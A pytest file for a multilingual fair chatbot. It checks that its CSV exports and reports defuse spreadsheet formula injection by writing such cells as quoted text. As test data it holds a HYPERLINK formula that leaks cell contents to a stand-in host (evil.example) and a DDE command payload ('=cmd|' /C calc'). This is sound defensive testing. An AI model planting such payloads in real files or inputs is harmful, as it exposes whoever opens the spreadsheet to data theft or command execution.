"""CSV files organizers open in a spreadsheet (exports, report tables, coop codes): a text cell
that a spreadsheet would run as a formula is written behind a `'`, whatever a visitor typed or
a catalogue says; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from bot.csvfiles import write_csv
from bot.worker import OutboxWorker
from storage.cooperatives import CODE_ALPHABET, CooperativeRepository
from storage.feedback import queue_cooperative_messages
from storage.models import (
    Contact,
    Fair,
    Feedback,
    OutboxMessage,
    OutboxStatus,
    Registration,
    RegistrationStatus,
    Workshop,
)
from tests.conftest import AppFactory, Chat, cli_env, run_tadamon
from tests.platforms import TelegramFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"ici")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CASABLANCA = dt.timezone(dt.timedelta(hours=1))
AMINA = 3001


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def assert_no_formula(rows: list[dict[str, str]], where: str) -> None:
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (where, column, value)


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, f"'{HYPERLINK}"),
    ("+212600000000", "'+212600000000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Très bien = parfait", "Très bien = parfait"),
    ("ممتاز -- شكرا", "ممتاز -- شكرا"),
    ("", ""),
    (None, ""),
    (-3, "-3"),
    (-2.5, "-2.5"),
    (Decimal("-1.50"), "-1.50"),
    (4, "4"),
])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value: Any, written: str) -> None:
    handle = io.StringIO(newline="")
    assert write_csv(handle, ["value"], [[value], {"value": value}]) == 2
    rows = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    assert rows == [["value"], [written], [written]]


def test_a_row_with_a_key_that_is_not_a_column_is_a_mistake() -> None:
    with pytest.raises(ValueError, match="comment"):
        write_csv(io.StringIO(), ["rating"], [{"rating": 5, "comment": "x"}])


async def test_a_visitors_formula_comment_stays_text_in_the_feedback_export(
    chat: Chat, tmp_path: Path,
) -> None:
    chat.app.engine.clock = lambda: dt.datetime(2026, 12, 13, 11, 0, tzinfo=CASABLANCA)
    await chat("amina", "bonjour")
    await chat.tap("amina", "Français")
    await chat("amina", "menu")
    await chat.tap("amina", "Donner mon avis")
    await chat.tap("amina", "★★★★")
    recorded = await chat("amina", HYPERLINK)
    assert "Merci, votre commentaire a été enregistré." in recorded.text

    await chat("karim", "السلام عليكم")
    await chat.tap("karim", "العربية")
    await chat("karim", "/start stand_A18")
    await chat.tap("karim", "تقييم هذا الرواق")
    await chat.tap("karim", "★★★★★")
    assert "شكرًا، تم تسجيل تعليقك." in (await chat("karim", "+1 الزرابي زوينة بزاف")).text

    env = cli_env(TADAMON_DATABASE_URL=chat.app.settings.database_url)
    code, out, err = await run_tadamon("export", "feedback", "--out", "feedback.csv", env=env,
                                       cwd=tmp_path)
    assert (code, out.strip()) == (0, "2 feedback written to feedback.csv"), err
    rows = read_csv(tmp_path / "feedback.csv")
    assert_no_formula(rows, "feedback.csv")
    fair, stand = rows
    assert (fair["target_kind"], fair["rating"], fair["comment"], fair["language"]) == (
        "fair", "4", f"'{HYPERLINK}", "fr")
    assert (stand["target_id"], stand["rating"], stand["comment"], stand["language"]) == (
        "A18", "5", "'+1 الزرابي زوينة بزاف", "ar")


async def seed_hostile_rows(app: Any) -> None:
    """A person whose id and every text of theirs begins like a formula, in each table that an
    export reads."""
    async with app.sessions() as session, session.begin():
        fair = (await session.scalars(select(Fair))).first()
        assert fair is not None
        workshop = (await session.scalars(select(Workshop).where(
            Workshop.key == "coop-finance-1"))).one()
        contact = Contact(channel="web", user_id="@SUM(1+1)", language="fr")
        session.add(contact)
        await session.flush()
        session.add_all([
            Registration(workshop_id=workshop.id, contact_id=contact.id,
                         status=RegistrationStatus.CONFIRMED),
            Feedback(fair_id=fair.id, contact_id=contact.id, target_kind="fair",
                     target_key=fair.key, rating=3, comment="\t=1+2", language="fr"),
            Feedback(fair_id=fair.id, contact_id=contact.id, target_kind="fair",
                     target_key=fair.key, rating=None, comment="\r-3", language="fr"),
            OutboxMessage(contact_id=contact.id, channel="web", kind="broadcast", payload={},
                          due_at=dt.datetime(2026, 12, 13, tzinfo=dt.UTC),
                          status=OutboxStatus.FAILED, idempotency_key="hostile-1",
                          error="=cmd|' /C calc'!A0"),
        ])


@pytest.mark.parametrize(("export", "column", "written"), [
    ("registrations", "user_id", "'@SUM(1+1)"),
    ("contacts", "user_id", "'@SUM(1+1)"),
    ("deliveries", "error", "'=cmd|' /C calc'!A0"),
    ("feedback", "comment", "'\t=1+2"),
    ("feedback", "comment", "'\r-3"),
])
async def test_every_export_writes_formula_like_text_as_text(
    make_app: AppFactory, tmp_path: Path, export: str, column: str, written: str,
) -> None:
    app = await make_app(redis="fake")
    await seed_hostile_rows(app)
    env = cli_env(TADAMON_DATABASE_URL=app.settings.database_url)
    code, _out, err = await run_tadamon("export", export, "--out", "out.csv", env=env,
                                        cwd=tmp_path)
    assert code == 0, err
    rows = read_csv(tmp_path / "out.csv")
    assert_no_formula(rows, export)
    assert written in [row[column] for row in rows]


async def test_a_survey_comment_stays_text_in_the_report_tables(
    make_telegram: TelegramFactory, tmp_path: Path,
) -> None:
    tg = await make_telegram()
    app = tg.app
    over = dt.datetime(2026, 12, 17, 9, 0, tzinfo=CASABLANCA)
    app.engine.clock = lambda: over
    await tg.say(AMINA, "/start")
    await tg.tap(AMINA, "Français")
    codes = {code.exhibitor: code.code
             for code in await CooperativeRepository(app.sessions).codes()}
    assert "Tifawin" in await tg.say(AMINA, f"/start coop_{codes['coop-tifawin']}")
    assert await queue_cooperative_messages(app.sessions, over) == 1
    assert await OutboxWorker(app, clock=lambda: over).drain() == 1
    await tg.tap(AMINA, "★★★★")
    await tg.tap(AMINA, "Oui")
    await tg.tap(AMINA, "2 000 à 10 000 MAD")
    assert "Merci pour vos réponses" in await tg.say(AMINA, HYPERLINK)

    env = cli_env(TADAMON_DATABASE_URL=app.settings.database_url)
    code, _out, err = await run_tadamon("report", "--out", "report", env=env, cwd=tmp_path)
    assert code == 0, err
    tables = sorted((tmp_path / "report").glob("*.csv"))
    assert len(tables) >= 8
    for table in tables:
        assert_no_formula(read_csv(table), table.name)
    [answer] = read_csv(tmp_path / "report" / "exhibitor_survey.csv")
    # The report names no one: its link is left out (storage.questions.redact), and what is
    # left still begins like a formula.
    assert (answer["exhibitor_id"], answer["satisfaction"], answer["comment"]) == (
        "coop-tifawin", "4", "'=HYPERLINK(\"<link>")


CATALOGUE = """\
fair:
  id: salon-test
  name: {fr: Salon test, ar: معرض تجريبي}
  city: {fr: Khouribga, ar: خريبكة}
  venue: {fr: Place centrale, ar: الساحة المركزية}
  opens: 2026-12-13
  closes: 2026-12-16
stands:
  - {number: A1, zone: {fr: Hall A, ar: الرواق أ}, x: 10, y: 10}
  - {number: A2, zone: {fr: Hall A, ar: الرواق أ}, x: 20, y: 10}
exhibitors:
  - id: coop-at
    name: {fr: "@Coopérative Atlas", ar: "تعاونية الأطلس"}
    city: {fr: Azilal, ar: أزيلال}
    region: {fr: Béni Mellal-Khénifra, ar: بني ملال خنيفرة}
    stand: A1
  - id: coop-dash
    name: {fr: "-Coopérative Tiznit", ar: "-تعاونية تيزنيت"}
    city: {fr: Tiznit, ar: تيزنيت}
    region: {fr: Souss-Massa, ar: سوس ماسة}
    stand: A2
  - id: coop-sum
    name: {fr: "=SUM(1+1)", ar: "+تعاونية"}
    city: {fr: Tiznit, ar: تيزنيت}
    region: {fr: Souss-Massa, ar: سوس ماسة}
"""


async def test_coop_codes_write_formula_like_names_as_text(tmp_path: Path) -> None:
    (tmp_path / "fair.yaml").write_text(CATALOGUE, encoding="utf-8")
    env = cli_env(TADAMON_DATABASE_URL=f"sqlite+aiosqlite:///{tmp_path}/coops.db",
                  TADAMON_PUBLIC_URL="https://salon.example.ma")
    code, _out, err = await run_tadamon("import", "fair.yaml", env=env, cwd=tmp_path)
    assert code == 0, err
    code, out, err = await run_tadamon("coop-codes", "--out", "codes.csv", env=env,
                                       cwd=tmp_path)
    assert (code, out.strip()) == (0, "3 cooperative codes written to codes.csv"), err
    rows = read_csv(tmp_path / "codes.csv")
    code, printed, err = await run_tadamon("coop-codes", env=env, cwd=tmp_path)
    assert code == 0, err
    assert list(csv.DictReader(io.StringIO(printed, newline=""))) == rows
    assert_no_formula(rows, "coop-codes")
    assert [(row["exhibitor_id"], row["name_fr"], row["name_ar"]) for row in rows] == [
        ("coop-at", "'@Coopérative Atlas", "تعاونية الأطلس"),
        ("coop-dash", "'-Coopérative Tiznit", "'-تعاونية تيزنيت"),
        ("coop-sum", "'=SUM(1+1)", "'+تعاونية"),
    ]
    for row in rows:
        assert len(row["code"]) == 13 and set(row["code"]) <= set(CODE_ALPHABET)
        assert row["telegram_link"] == ""  # Telegram is off: no link to nowhere
        assert row["web_link"] == f"https://salon.example.ma/?start=coop_{row['code']}"
